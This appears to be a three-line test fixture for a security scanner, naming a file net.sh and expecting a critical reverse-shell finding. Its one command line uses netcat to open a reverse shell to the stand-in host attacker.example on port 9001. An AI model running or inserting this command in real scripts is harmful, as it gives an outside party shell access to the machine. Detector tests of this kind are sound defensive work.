# expect: shell.reverse_shell critical
# path: net.sh
nc -e /bin/sh attacker.example 9001
